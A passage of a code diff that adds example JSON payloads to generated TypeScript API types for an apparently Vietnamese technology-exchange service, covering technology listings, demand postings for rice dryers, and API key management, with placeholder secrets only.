+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": null,
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:1c63674e-00c4-4215-a0b7-e2c4b5cf7884"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-06T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-07T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Listing"];
                 };
             };
@@ -7760,6 +8633,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "84924268-e9a0-4f76-8e65-d5dcf4b13334",
+                     *       "status": "published",
+                     *       "owner": {
+                     *         "id": "abeefddc-aead-458e-88d1-4c2c4888ae95",
+                     *         "name": "Công ty TNHH Điện tử Hà Nam",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice production process",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 250000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": true,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:84924268-e9a0-4f76-8e65-d5dcf4b13334"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Listing"];
                 };
             };
@@ -7914,6 +8862,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "Trùng với một chào bán khác"
+                 *     }
+                 */
                 "application/json": components["schemas"]["WithdrawListingRequest"];
             };
         };
@@ -7930,6 +8883,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "1c63674e-00c4-4215-a0b7-e2c4b5cf7884",
+                     *       "status": "withdrawn",
+                     *       "owner": {
+                     *         "id": "f003fa69-9759-4388-8d33-9595cc82755a",
+                     *         "name": "Công ty TNHH Cơ khí Nông nghiệp Thái Bình",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice, certified",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 300000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": "2026-03-08T03:00:00.000Z",
+                     *       "withdrawnAt": "2026-03-09T03:00:00.000Z",
+                     *       "withdrawReason": "Trùng với một chào bán khác",
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:1c63674e-00c4-4215-a0b7-e2c4b5cf7884"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-06T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-09T03:00:00.000Z",
+                     *       "version": 4
+                     *     }
+                     */
                     "application/json": components["schemas"]["Listing"];
                 };
             };
@@ -8084,6 +9112,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "Thông tin sáng chế chưa được xác minh"
+                 *     }
+                 */
                 "application/json": components["schemas"]["UnpublishListingRequest"];
             };
         };
@@ -8100,6 +9133,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "e4248967-7a0b-4c27-8ec4-e2a27edae56b",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "84c7b3f3-32fd-4c74-8587-883c44e22afd",
+                     *         "name": "Viện Công nghệ sau thu hoạch",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice production process",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 250000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": "Thông tin sáng chế chưa được xác minh",
+                     *       "moderatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:e4248967-7a0b-4c27-8ec4-e2a27edae56b"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 3
+                     *     }
+                     */
                     "application/json": components["schemas"]["Listing"];
                 };
             };
@@ -8291,6 +9399,105 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "c3921864-c7cc-46f1-a691-f14ce269c9d5",
+                     *           "status": "open",
+                     *           "titleVi": "Nhu cầu số 9",
+                     *           "titleEn": null,
+                     *           "sectors": [
+                     *             "C",
+                     *             "A"
+                     *           ],
+                     *           "fields": [
+                     *             "1"
+                     *           ],
+                     *           "minTrl": null,
+                     *           "budgetMinVnd": null,
+                     *           "budgetMaxVnd": null,
+                     *           "deadline": null,
+                     *           "provinceCode": "79",
+                     *           "currentProvinceCode": "79",
+                     *           "owner": {
+                     *             "id": "7621f973-82ca-4243-8a16-e0b17cd544a5",
+                     *             "name": "Công ty thử nghiệm 3",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "openedAt": "2026-03-12T03:00:00.000Z",
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:demand:c3921864-c7cc-46f1-a691-f14ce269c9d5"
+                     *           }
+                     *         },
+                     *         {
+                     *           "id": "bac2e49f-c4ae-44d9-b6ff-e4ea16c542e5",
+                     *           "status": "open",
+                     *           "titleVi": "Nhu cầu số 4",
+                     *           "titleEn": null,
+                     *           "sectors": [
+                     *             "A"
+                     *           ],
+                     *           "fields": [
+                     *             "2"
+                     *           ],
+                     *           "minTrl": 4,
+                     *           "budgetMinVnd": null,
+                     *           "budgetMaxVnd": null,
+                     *           "deadline": null,
+                     *           "provinceCode": "01",
+                     *           "currentProvinceCode": "01",
+                     *           "owner": {
+                     *             "id": "7621f973-82ca-4243-8a16-e0b17cd544a5",
+                     *             "name": "Công ty thử nghiệm 3",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "openedAt": "2026-03-12T03:00:00.000Z",
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:demand:bac2e49f-c4ae-44d9-b6ff-e4ea16c542e5"
+                     *           }
+                     *         }
+                     *       ],
+                     *       "nextCursor": null,
+                     *       "facets": {
+                     *         "province": [
+                     *           {
+                     *             "code": "01",
+                     *             "count": 3
+                     *           },
+                     *           {
+                     *             "code": "33",
+                     *             "count": 3
+                     *           }
+                     *         ],
+                     *         "sector": [
+                     *           {
+                     *             "code": "A",
+                     *             "count": 12
+                     *           },
+                     *           {
+                     *             "code": "C",
+                     *             "count": 6
+                     *           }
+                     *         ],
+                     *         "minTrl": [
+                     *           {
+                     *             "code": "4",
+                     *             "count": 2
+                     *           },
+                     *           {
+                     *             "code": "5",
+                     *             "count": 2
+                     *           }
+                     *         ],
+                     *         "exhaustive": true
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["DemandPage"];
                 };
             };
@@ -8387,6 +9594,30 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                 *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                 *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                 *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                 *       "sectors": [
+                 *         "A",
+                 *         "C"
+                 *       ],
+                 *       "fields": [
+                 *         "4"
+                 *       ],
+                 *       "keywords": [
+                 *         "sấy lúa",
+                 *         "sau thu hoạch"
+                 *       ],
+                 *       "minTrl": 6,
+                 *       "budgetMinVnd": 500000000,
+                 *       "budgetMaxVnd": 2000000000,
+                 *       "deadline": "2026-06-30",
+                 *       "provinceCode": "36"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateDemandRequest"];
             };
         };
@@ -8404,6 +9635,55 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "7d2d43c8-4649-4b0a-b902-4807a6d0e444",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "21161861-3ca6-4622-8ea4-0bc9ba61c396",
+                     *         "name": "Công ty Cổ phần Cơ điện Hà Nam",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": null,
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 2000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": null,
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:demand:7d2d43c8-4649-4b0a-b902-4807a6d0e444"
+                     *       },
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "possibleDuplicates": []
+                     *     }
+                     */
                     "application/json": components["schemas"]["DemandWithDuplicates"];
                 };
             };
@@ -8556,6 +9836,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "50724db6-621b-4774-967f-e00a4a907dd3",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "53674881-566f-4294-9d50-eb389abc16e9",
+                     *         "name": "Hợp tác xã Nông nghiệp Hải Hậu",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": null,
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 2000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": null,
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:demand:50724db6-621b-4774-967f-e00a4a907dd3"
+                     *       },
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -8656,6 +9984,12 @@ export interface operations {
         /** @description Fields to change; null clears an optional field. Status changes through /open and /close. */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "budgetMaxVnd": 3000000000,
+                 *       "problemEn": "Wet paddy after the harvest"
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateDemandRequest"];
             };
         };
@@ -8671,6 +10005,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "c44f0ad3-a6b4-4dd0-8948-0e428b19e844",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "f003fa69-9759-4388-8d33-9595cc82755a",
+                     *         "name": "Công ty TNHH Cơ khí Nông nghiệp Thái Bình",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": "Wet paddy after the harvest",
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 3000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": null,
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:demand:c44f0ad3-a6b4-4dd0-8948-0e428b19e844"
+                     *       },
+                     *       "createdAt": "2026-03-10T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-11T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -8848,6 +10230,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "e5ee718a-7bc1-4a23-b12e-c1d8b88c13c8",
+                     *       "status": "open",
+                     *       "owner": {
+                     *         "id": "21161861-3ca6-4622-8ea4-0bc9ba61c396",
+                     *         "name": "Công ty Cổ phần Cơ điện Hà Nam",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": null,
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 2000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": "2026-03-02T03:00:00.000Z",
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:demand:e5ee718a-7bc1-4a23-b12e-c1d8b88c13c8"
+                     *       },
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -9002,6 +10432,12 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "reason": "other",
+                 *       "note": "Đã tự chế tạo máy sấy"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CloseDemandRequest"];
             };
         };
@@ -9018,6 +10454,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "c44f0ad3-a6b4-4dd0-8948-0e428b19e844",
+                     *       "status": "closed",
+                     *       "owner": {
+                     *         "id": "f003fa69-9759-4388-8d33-9595cc82755a",
+                     *         "name": "Công ty TNHH Cơ khí Nông nghiệp Thái Bình",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy sấy lúa công suất 10 tấn/mẻ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": "Wet paddy after the harvest",
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 3000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": "2026-03-12T03:00:00.000Z",
+                     *       "closedAt": "2026-03-13T03:00:00.000Z",
+                     *       "closeReason": "other",
+                     *       "closeNote": "Đã tự chế tạo máy sấy",
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:demand:c44f0ad3-a6b4-4dd0-8948-0e428b19e844"
+                     *       },
+                     *       "createdAt": "2026-03-10T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-13T03:00:00.000Z",
+                     *       "version": 4
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -9189,6 +10673,39 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "f5b738ef-a0be-4f25-8bc2-e64990817833",
+                     *           "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *           "prefix": "4fdxW2vnJV9O",
+                     *           "role": "reader",
+                     *           "label": null,
+                     *           "status": "active",
+                     *           "createdAt": "2026-12-05T23:58:32.829Z",
+                     *           "lastUsedAt": "2026-03-02T03:00:00.000Z",
+                     *           "expiresAt": null,
+                     *           "revokedAt": null,
+                     *           "rotatedFromId": null
+                     *         },
+                     *         {
+                     *           "id": "e528e7f2-83e4-4a4d-951a-3c4b0d4a94a8",
+                     *           "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *           "prefix": "GWmMp2Cbigjh",
+                     *           "role": "editor",
+                     *           "label": null,
+                     *           "status": "active",
+                     *           "createdAt": "2026-12-05T23:58:32.827Z",
+                     *           "lastUsedAt": "2026-03-02T03:00:00.000Z",
+                     *           "expiresAt": null,
+                     *           "revokedAt": null,
+                     *           "rotatedFromId": null
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ApiKeyPage"];
                 };
             };
@@ -9282,6 +10799,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "role": "reader"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateApiKeyRequest"];
             };
         };
@@ -9297,6 +10819,24 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "apiKey": {
+                     *         "id": "1827d2d5-8209-4230-8081-3b6265167897",
+                     *         "organizationId": "3d58e0f1-1ded-4d58-ae1d-d6e61bb81253",
+                     *         "prefix": "CMzHap7kaweY",
+                     *         "role": "reader",
+                     *         "label": null,
+                     *         "status": "active",
+                     *         "createdAt": "2026-03-02T03:00:00.000Z",
+                     *         "lastUsedAt": null,
+                     *         "expiresAt": null,
+                     *         "revokedAt": null,
+                     *         "rotatedFromId": null
+                     *       },
+                     *       "secret": "txk_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ApiKeyCreated"];
                 };
             };
@@ -9444,6 +10984,28 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "apiKey": {
+                     *         "id": "f5b738ef-a0be-4f25-8bc2-e64990817833",
+                     *         "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *         "prefix": "4fdxW2vnJV9O",
+                     *         "role": "reader",
+                     *         "label": null,
+                     *         "status": "active",
+                     *         "createdAt": "2026-12-05T23:58:32.829Z",
+                     *         "lastUsedAt": "2026-03-02T03:00:00.000Z",
+                     *         "expiresAt": null,
+                     *         "revokedAt": null,
+                     *         "rotatedFromId": null
+                     *       },
+                     *       "organization": {
+                     *         "id": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *         "kind": "enterprise",
+                     *         "name": "Viện Cơ điện nông nghiệp"
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["CurrentApiKey"];
                 };
             };
@@ -9554,6 +11116,21 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "e528e7f2-83e4-4a4d-951a-3c4b0d4a94a8",
+                     *       "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *       "prefix": "GWmMp2Cbigjh",
+                     *       "role": "editor",
+                     *       "label": null,
+                     *       "status": "active",
+                     *       "createdAt": "2026-12-05T23:58:32.827Z",
+                     *       "lastUsedAt": "2026-03-02T03:00:00.000Z",
+                     *       "expiresAt": null,
+                     *       "revokedAt": null,
+                     *       "rotatedFromId": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ApiKey"];
                 };
             };
@@ -9677,6 +11254,21 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "569c2ac5-2aeb-45d3-82cd-cc524bd984d3",
+                     *       "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *       "prefix": "7cow2qd0OFpx",
+                     *       "role": "editor",
+                     *       "label": null,
+                     *       "status": "revoked",
+                     *       "createdAt": "2026-12-05T23:58:33.565Z",
+                     *       "lastUsedAt": "2026-03-02T03:00:00.000Z",
+                     *       "expiresAt": null,
+                     *       "revokedAt": "2026-03-02T03:00:00.000Z",
+                     *       "rotatedFromId": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ApiKey"];
                 };
             };
@@ -9828,6 +11420,7 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /** @example {} */
                 "application/json": components["schemas"]["RotateApiKeyRequest"];
             };
         };
@@ -9843,6 +11436,24 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "apiKey": {
+                     *         "id": "26fb88f3-0833-449d-8d42-fc20cb4e9f5b",
+                     *         "organizationId": "736dfbba-d854-4556-a64d-814ffd13ca84",
+                     *         "prefix": "W1IskyKjFLjt",
+                     *         "role": "editor",
+                     *         "label": null,
+                     *         "status": "active",
+                     *         "createdAt": "2026-03-02T03:00:00.000Z",
+                     *         "lastUsedAt": null,
+                     *         "expiresAt": null,
+                     *         "revokedAt": null,
+                     *         "rotatedFromId": "00cf36b1-b57e-4167-b18e-0033ba9c8961"
+                     *       },
+                     *       "secret": "txk_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ApiKeyCreated"];
                 };
             };
@@ -10024,6 +11635,178 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "4",
+                     *           "occurredAt": "2026-03-06T03:00:00.000Z",
+                     *           "requestId": "read-delegated",
+                     *           "keyId": "e1ab03c3-248c-4291-9197-f59456277eb3",
+                     *           "actingOrganizationId": "3ab33bbc-81ee-4a72-b986-6dfc3482a82a",
